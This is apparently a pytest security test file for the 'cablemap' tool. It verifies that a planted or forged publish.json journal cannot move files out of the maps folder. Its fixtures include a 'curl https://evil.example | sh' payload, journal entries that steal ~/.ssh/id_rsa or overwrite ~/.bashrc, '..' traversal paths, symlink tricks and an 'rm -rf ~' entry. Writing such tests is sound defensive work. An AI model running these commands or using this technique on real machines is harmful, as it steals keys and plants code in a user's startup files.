"""A planted publication journal never moves a file into, out of or beside the maps folder.

The attack of issue 25: ``.cablemap-build/publish.json`` naming ``~/.ssh/id_rsa`` and
``~/.bashrc`` made the next build "finish an interrupted publication" with them. A journal is
now believed only when signed with the user's key, and even then each entry may only move a
file of one of this folder's staging folders to the same place in the maps (or exports)
folder, through no link.
"""

from __future__ import annotations

import json
import os

import pytest
from click.testing import CliRunner

from cablemap.cli import cli
from cablemap.pipeline import publish, trust
from tests.security.conftest import STATE, build_args, needs_fifo, no_traceback


def _journal(maps, entries, state=None):
    return {
        "format": publish.JOURNAL_FORMAT,
        "version": publish.JOURNAL_VERSION,
        "moves": entries,
        "state": state or publish.state_record({}, {}, {}),
    }


@pytest.mark.slow  # a whole build on the command line
def test_planted_journal_moves_nothing_and_is_named(maps, home, tiny_release):
    (maps / "payload").write_text("curl https://evil.example | sh\n")
    journal = maps / STATE / "publish.json"
    planted = {  # the attack as the issue found it: plain absolute paths
        "moves": [
            [str(home.key), str(maps / "stolen_id_rsa")],
            [str(maps / "payload"), str(home.bashrc)],
        ],
        "state": publish.state_record({}, {}, {}),
    }
    journal.write_text(json.dumps(planted))
    before = home.snapshot()
    result = CliRunner().invoke(cli, build_args(tiny_release, maps))
    assert result.exit_code == 0, result.output
    no_traceback(result.output)
    assert home.snapshot() == before
    assert not (maps / "stolen_id_rsa").exists()
    assert (maps / "payload").read_text().startswith("curl")  # not moved either
    assert not journal.exists()
    warning = next(line for line in result.stderr.splitlines() if "publish.json" in line)
    assert "is not signed by this user's cablemap" in warning
    assert "discarded without moving anything" in warning
    assert str(home.key) in warning  # the user sees what the journal asked for


def test_a_signed_journal_moves_only_from_staging_to_outputs(maps, home):
    """Even a journal signed with the key (a bug, a leaked key) cannot leave the folder."""
    state_dir = maps / STATE
    staging = state_dir / "staging-1-abc123"
    staging.mkdir()
    (staging / "index.html").write_text("<p>the new index</p>")
    (staging / "key").symlink_to(home.key)  # a staged "file" that is a link to the key
    (state_dir / "staging-2-def456").symlink_to(home.root)  # a staging folder that is a link
    (maps / "linked").symlink_to(home.root / ".config")  # an output folder that is a link
    (staging / "linked").mkdir()
    (staging / "linked" / "autostart.desktop").write_text("[Desktop Entry]\nExec=evil\n")
    good = ["maps", "staging-1-abc123", "index.html"]
    bad = [
        [str(home.key), str(maps / "stolen")],  # the old form: absolute paths
        ["maps", "staging-1-abc123", "../../../home/.bashrc"],  # '..'
        ["maps", "staging-1-abc123", str(home.bashrc)],  # absolute
        ["maps", "../../home", ".bashrc"],  # not a staging folder of this folder
        ["maps", "staging-2-def456", ".ssh/id_rsa"],  # through a linked staging folder
        ["maps", "staging-1-abc123", "key"],  # the staged file is a link
        ["maps", "staging-1-abc123", "linked/autostart.desktop"],  # target through a link
        ["maps", "staging-1-abc123", ".cablemap-build/state.json"],  # into the build folder
        ["home", "staging-1-abc123", "index.html"],  # no such root
        "rm -rf ~",  # not an entry at all
    ]
    journal = state_dir / "publish.json"
    journal.write_bytes(trust.signed_json(_journal(maps, [good, *bad]), "journal"))
    before = home.snapshot()
    messages = publish.recover(state_dir, maps, maps / "exports")
    assert home.snapshot() == before
    assert (maps / "index.html").read_text() == "<p>the new index</p>"  # the one good move
    assert not (maps / "stolen").exists()
    refused = [m for m in messages if "discarded" in m]
    assert len(refused) == len(bad)
    for entry, message in zip(bad, refused, strict=True):
        assert repr(entry)[:60] in message, message
        assert "publish.json" in message
    assert "the state was reset" in messages[-1]
    assert not (state_dir / "state.json").exists() and not journal.exists()


def test_a_signed_journal_of_good_moves_is_completed(maps):
    state_dir = maps / STATE
    staging = state_dir / "staging-7-0a0b"
    (staging / "countries").mkdir(parents=True)
    page = staging / "countries" / "FJI.html"
    page.write_text("<p>Fiji, redrawn</p>")
    outputs = {"maps/countries/FJI.html": publish.sha256_file(page)}
    record = publish.state_record({"load": "k"}, outputs, {})
    entries = [["maps", "staging-7-0a0b", "countries/FJI.html"]]
    (state_dir / "publish.json").write_bytes(
        trust.signed_json(_journal(maps, entries, record), "journal")
    )
    messages = publish.recover(state_dir, maps, maps / "exports")
    assert messages == ["finished publishing an interrupted build (1 file(s))"]
    assert (maps / "countries" / "FJI.html").read_text() == "<p>Fiji, redrawn</p>"
    state, problem = publish.read_state(state_dir)
    assert problem is None and state["outputs"] == outputs


@needs_fifo
def test_a_journal_that_is_a_pipe_or_a_link_is_discarded_unread(maps, home):
    state_dir = maps / STATE
    journal = state_dir / "publish.json"
    os.mkfifo(journal)
    (messages,) = [publish.recover(state_dir, maps, maps / "exports")]
    assert "publish.json' is a named pipe (FIFO), not a regular file" in messages[0]
    assert not journal.exists()
    journal.symlink_to(home.bashrc)
    before = home.snapshot()
    messages = publish.recover(state_dir, maps, maps / "exports")
    assert f"publish.json' is a symbolic link (to {str(home.bashrc)!r})" in messages[0]
    assert not journal.is_symlink() and home.snapshot() == before


def test_leftovers_are_cleaned_without_following_links(maps, home):
    state_dir = maps / STATE
    planted = [
        state_dir / "staging-99-dead",
        state_dir / "cache" / "layers-dead-99",
        maps / "exports" / ".cablemap-staging-99-dead",
    ]
    for link in planted:
        link.symlink_to(home.root)
    real = state_dir / "staging-98-beef"
    (real / "inner").mkdir(parents=True)
    (real / "inner" / "to-key").symlink_to(home.key)
    before = home.snapshot()
    removed = publish.clean_leftovers(state_dir, maps / "exports", set())
    assert home.snapshot() == before
    assert {*planted, real} <= set(removed)
    assert not any(p.exists() or p.is_symlink() for p in [*planted, real])
